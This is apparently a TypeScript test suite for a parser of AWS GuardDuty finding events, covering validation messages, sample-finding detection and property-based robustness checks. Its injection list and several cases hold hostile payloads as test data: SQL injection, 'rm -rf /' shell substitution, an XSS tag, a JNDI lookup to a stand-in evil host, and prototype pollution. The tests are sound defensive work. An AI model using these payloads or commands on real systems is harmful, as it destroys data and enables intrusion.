import fc from 'fast-check';
import { isSampleFinding, parseFindingEvent } from '../../../tasks/response/finding';
import { InvalidFindingError } from '../../../tasks/shared/errors';
import {
  ATTACKER_IP,
  fieldPathsOf,
  findingEventWithRawDetail,
  INSTANCE_ID,
  makeFinding,
  makeFindingEvent,
  makeNetworkInterface,
  makePortProbe,
  mutableCopy,
  type RawFindingEvent,
  withFieldReplaced,
} from '../../fixtures/findings';

const messageOf = (raw: unknown): string => {
  try {
    parseFindingEvent(raw);
  } catch (error) {
    expect(error).toBeInstanceOf(InvalidFindingError);
    return (error as Error).message;
  }
  throw new Error('expected parseFindingEvent to throw');
};

/** parseFindingEvent accepts `raw` or refuses it with InvalidFindingError, and throws nothing else. */
const expectNothingButInvalidFindingError = (raw: unknown): void => {
  try {
    parseFindingEvent(raw);
  } catch (error) {
    expect(error).toBeInstanceOf(InvalidFindingError);
  }
};

const INJECTIONS = [
  "'; DROP TABLE findings; --",
  '$(rm -rf /)',
  '`reboot`',
  '<script>alert(1)</script>',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a lookup payload, meant literally
  '${jndi:ldap://evil.example/a}',
  '$.Execution.Input',
  "States.Format('{}', $$.Task.Token)",
  '"},"source":"aws.evil","x":{"',
  '\u0000\u202e\r\n',
  '__proto__',
];

describe('parseFindingEvent', () => {
  it('reads an SSH brute force finding event', () => {
    // Arrange
    const raw = makeFindingEvent({ type: 'UnauthorizedAccess:EC2/SSHBruteForce', severity: 2 });

    // Act
    const event = parseFindingEvent(raw);

    // Assert
    expect(event.source).toBe('aws.guardduty');
    expect(event.detail).toMatchObject({
      type: 'UnauthorizedAccess:EC2/SSHBruteForce',
      severity: 2,
      resource: { resourceType: 'Instance', instanceDetails: { instanceId: INSTANCE_ID } },
      service: {
        resourceRole: 'TARGET',
        action: {
          actionType: 'NETWORK_CONNECTION',
          networkConnectionAction: {
            connectionDirection: 'INBOUND',
            remoteIpDetails: { ipAddressV4: ATTACKER_IP },
          },
        },
      },
    });
  });

  it('reads a port probe with many probe details', () => {
    // Arrange
    const probes = Array.from({ length: 1000 }, (_, i) =>
      makePortProbe({ remoteIp: `198.51.100.${i % 250}` }),
    );
    const raw = makeFindingEvent({ type: 'Recon:EC2/PortProbeUnprotectedPort', portProbes: probes });

    // Act
    const event = parseFindingEvent(raw);

    // Assert
    expect(event.detail.service.action?.portProbeAction?.portProbeDetails).toHaveLength(1000);
  });

  it('accepts fields GuardDuty adds and leaves them out of the result', () => {
    // Arrange
    const raw = mutableCopy(makeFindingEvent());
    raw.detail.service.runtimeDetails = { process: { name: 'x' } };
    raw.detail.resource.instanceDetails.platform = null;
    raw.detail.newTopLevelField = 'later';

    // Act
    const event = parseFindingEvent(raw);

    // Assert
    expect(event.detail).not.toHaveProperty('newTopLevelField');
    expect(event.detail.service).not.toHaveProperty('runtimeDetails');
  });

  it('treats GuardDuty nulls as absent values', () => {
    // Arrange
    const raw = mutableCopy(makeFindingEvent());
    raw.detail.resource.instanceDetails.networkInterfaces[0].publicIp = null;
    raw.detail.resource.instanceDetails.networkInterfaces[0].ipv6Addresses = null;
    raw.detail.service.archived = null;

    // Act
    const event = parseFindingEvent(raw);

    // Assert
    const eni = event.detail.resource.instanceDetails?.networkInterfaces?.[0];
    expect(eni?.publicIp).toBeUndefined();
    expect(eni?.ipv6Addresses).toBeUndefined();
    expect(event.detail.service.archived).toBeUndefined();
  });

  it("accepts GuardDuty's sample finding placeholders", () => {
    // Arrange: CreateSampleFindings fills ids with placeholders like these
    const raw = mutableCopy(makeFindingEvent({ instanceId: 'i-99999999', sample: 'value' }));
    raw.detail.resource.instanceDetails.networkInterfaces = [
      makeNetworkInterface({
        networkInterfaceId: 'eni-bfcffe88',
        subnetId: 'GeneratedFindingSubnetId',
        vpcId: 'GeneratedFindingVPCId',
      }),
    ];
    raw.detail.service.action.networkConnectionAction.remoteIpDetails.organization.asn = '-1';

    // Act & assert
    expect(() => parseFindingEvent(raw)).not.toThrow();
  });

  it('reads an IPv6 remote address', () => {
    // Act
    const event = parseFindingEvent(makeFindingEvent({ remoteIp: '2001:db8::7' }));

    // Assert
    expect(event.detail.service.action?.networkConnectionAction?.remoteIpDetails.ipAddressV6).toBe(
      '2001:db8::7',
    );
  });

  it.each<[string, (raw: ReturnType<typeof mutableCopy>) => void, string]>([
    [
      'the account id has 11 digits',
      (r) => (r.detail.accountId = '12345678901'),
      'detail.accountId: must be a 12-digit account id',
    ],
    ['the source is not GuardDuty', (r) => (r.source = 'aws.ec2'), 'source: must be "aws.guardduty"'],
    [
      'the detail-type is another event',
      (r) => (r['detail-type'] = 'GuardDuty Runtime Protection Healthy'),
      'detail-type: must be "GuardDuty Finding"',
    ],
    ['the severity is above 10', (r) => (r.detail.severity = 11), 'detail.severity: must be from 0 to 10'],
    ['the severity is negative', (r) => (r.detail.severity = -1), 'detail.severity: must be from 0 to 10'],
    [
      'the severity is a string',
      (r) => (r.detail.severity = '8'),
      'detail.severity: must be a number from 0 to 10',
    ],
    ['the severity is missing', (r) => delete r.detail.severity, 'detail.severity: is required'],
    ['the finding id is missing', (r) => delete r.detail.id, 'detail.id: is required'],
    [
      'the region is made up',
      (r) => (r.detail.region = 'mars-1'),
      'detail.region: must be an AWS region name',
    ],
    [
      'the type is not a finding type',
      (r) => (r.detail.type = 'rm -rf /'),
      'detail.type: must be a GuardDuty finding type',
    ],
    [
      'the timestamp is not ISO 8601',
      (r) => (r.detail.createdAt = 'yesterday'),
      'detail.createdAt: must be an ISO 8601 timestamp',
    ],
    [
      'the instance id is malformed',
      (r) => (r.detail.resource.instanceDetails.instanceId = 'i-XYZ'),
      'detail.resource.instanceDetails.instanceId: must be an instance id',
    ],
    [
      'the remote address is not IPv4',
      (r) =>
        (r.detail.service.action.networkConnectionAction.remoteIpDetails.ipAddressV4 =
          '198.51.100.7; rm -rf /'),
      'detail.service.action.networkConnectionAction.remoteIpDetails.ipAddressV4: must be an IPv4 address',
    ],
    [
      'the IPv6 field holds IPv4',
      (r) => (r.detail.service.action.networkConnectionAction.remoteIpDetails.ipAddressV6 = '198.51.100.7'),
      'remoteIpDetails.ipAddressV6: must be an IPv6 address',
    ],
    [
      'the remote address has a zone index',
      (r) => (r.detail.service.action.networkConnectionAction.remoteIpDetails.ipAddressV6 = 'fe80::1%eth0'),
      'must be an IPv6 address',
    ],
    [
      'the remote details name no address',
      (r) => delete r.detail.service.action.networkConnectionAction.remoteIpDetails.ipAddressV4,
      'remoteIpDetails: must have ipAddressV4 or ipAddressV6',
    ],
    [
      'the resource role is unknown',
      (r) => (r.detail.service.resourceRole = 'VICTIM'),
      'detail.service.resourceRole: must be TARGET or ACTOR',
    ],
    [
      'the title is huge',
      (r) => (r.detail.title = 'x'.repeat(1025)),
      'detail.title: must be at most 1024 characters',
    ],
    [
      'the tags are too many',
      (r) =>
        (r.detail.resource.instanceDetails.tags = Array.from({ length: 51 }, (_, i) => ({
          key: `k${i}`,
          value: 'v',
        }))),
      'detail.resource.instanceDetails.tags: must have at most 50 entries',
    ],
    [
      'an interface address is bad',
      (r) => (r.detail.resource.instanceDetails.networkInterfaces[0].privateIpAddress = '10.0.0.256'),
      'networkInterfaces[0].privateIpAddress: must be an IPv4 address',
    ],
  ])('fails when %s', (_what, breakIt, message) => {
    // Arrange
    const raw = mutableCopy(makeFindingEvent());
    breakIt(raw);

    // Act
    const received = messageOf(raw);

    // Assert
    expect(received).toContain(message);
  });

  it('fails when a port probe lists more than 1000 details, naming the list', () => {
    // Arrange
    const probes = Array.from({ length: 1001 }, () => makePortProbe());
    const raw = makeFindingEvent({ type: 'Recon:EC2/PortProbeUnprotectedPort', portProbes: probes });

    // Act & assert
    expect(messageOf(raw)).toContain(
      'detail.service.action.portProbeAction.portProbeDetails: must have at most 1000 entries',
    );
  });

  it('names the index of a bad probe detail', () => {
    // Arrange
    const raw = mutableCopy(makeFindingEvent({ type: 'Recon:EC2/PortProbeUnprotectedPort' }));
    raw.detail.service.action.portProbeAction.portProbeDetails.push({
      remoteIpDetails: { ipAddressV4: 'nope' },
    });

    // Act & assert
    expect(messageOf(raw)).toContain(
      'portProbeDetails[1].remoteIpDetails.ipAddressV4: must be an IPv4 address',
    );
  });

  it.each([null, 42, 'a string', [], undefined])('fails when the event is %j', (raw) => {
    expect(messageOf(raw)).toMatch(/^invalid GuardDuty finding event: \(event\): /);
  });

  it('lists at most five problems', () => {
    // Act
    const message = messageOf({ source: 'aws.guardduty', 'detail-type': 'GuardDuty Finding', detail: {} });

    // Assert
    expect(message.split('; ').length).toBe(6);
    expect(message).toMatch(/and \d+ more$/);
  });

  it('does not repeat the received value in its message', () => {
    // Arrange
    const raw = mutableCopy(makeFindingEvent());
    raw.detail.accountId = '<script>alert(1)</script>';

    // Act & assert
    expect(messageOf(raw)).not.toContain('<script>');
  });

  describe('properties', () => {
    it('throws nothing but InvalidFindingError on arbitrary JSON', () => {
      fc.assert(
        fc.property(fc.jsonValue(), (raw) => expectNothingButInvalidFindingError(raw)),
        { numRuns: 1000 },
      );
    });

    it('throws nothing but InvalidFindingError when any field of a valid event is replaced', () => {
      // Arrange: every path of a valid event, so that mutations land deep inside it
      const base = makeFindingEvent({ type: 'Recon:EC2/PortProbeUnprotectedPort' });

      fc.assert(
        fc.property(fc.constantFrom(...fieldPathsOf(base)), fc.jsonValue(), (path, value) =>
          expectNothingButInvalidFindingError(withFieldReplaced(base, path, value)),
        ),
        { numRuns: 2000 },
      );
    });

    it('keeps injection strings in text fields as data', () => {
      const hostile = fc.oneof(fc.constantFrom(...INJECTIONS), fc.string({ maxLength: 200 }));
      fc.assert(
        fc.property(hostile, hostile, hostile, (title, tagValue, portName) => {
          // Arrange
          const raw = mutableCopy(makeFindingEvent({ title, description: title, tags: { Name: tagValue } }));
          raw.detail.service.action.networkConnectionAction.localPortDetails.portName = portName.slice(0, 64);

          // Act
          const event = parseFindingEvent(raw);

          // Assert
          expect(event.detail.title).toBe(title);
          expect(event.detail.description).toBe(title);
          expect(event.detail.resource.instanceDetails?.tags).toEqual([{ key: 'Name', value: tagValue }]);
          expect(event.detail.service.action?.networkConnectionAction?.localPortDetails?.portName).toBe(
            portName.slice(0, 64),
          );
        }),
        { numRuns: 500 },
      );
    });

    it('does not let a __proto__ key reach any prototype', () => {
      // Arrange: JSON.parse makes __proto__ an own property, as an event from the wire would
      const raw = findingEventWithRawDetail(
        '"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},',
      );

      // Act
      const event = parseFindingEvent(raw);

      // Assert
      expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
      expect((event.detail as { polluted?: boolean }).polluted).toBeUndefined();
    });
  });
});

describe('isSampleFinding', () => {
  const detail = (raw: RawFindingEvent) => parseFindingEvent(raw).detail;

  it('recognises additionalInfo.sample', () => {
    expect(isSampleFinding(detail(makeFindingEvent({ sample: true })))).toBe(true);
  });

  it('recognises "sample":true in the JSON of additionalInfo.value', () => {
    expect(isSampleFinding(detail(makeFindingEvent({ sample: 'value' })))).toBe(true);
  });

  it('does not take a real finding for a sample', () => {
    expect(isSampleFinding(detail(makeFindingEvent()))).toBe(false);
  });

  it.each([
    ['"sample":false', '{"sample":false}', false],
    ['a nested sample flag', '{"threat":{"sample":true}}', false],
    ['a sample flag as text', '{"sample":"true"}', false],
    ['a marker in text that is not JSON', '{"sample": true, oops', true],
    ['text that is not JSON and has no marker', 'not json', false],
  ])('answers %s with %s', (_what, value, expected) => {
    // Arrange
    const raw = mutableCopy(makeFindingEvent());
    raw.detail.service.additionalInfo = { type: 'default', value };

    // Act & assert
    expect(isSampleFinding(detail(raw))).toBe(expected);
  });
});

describe('makeFinding', () => {
  it('builds a finding that parses', () => {
    expect(() =>
      parseFindingEvent({ ...makeFindingEvent(), detail: makeFinding({ severity: 8.2 }) }),
    ).not.toThrow();
  });
});
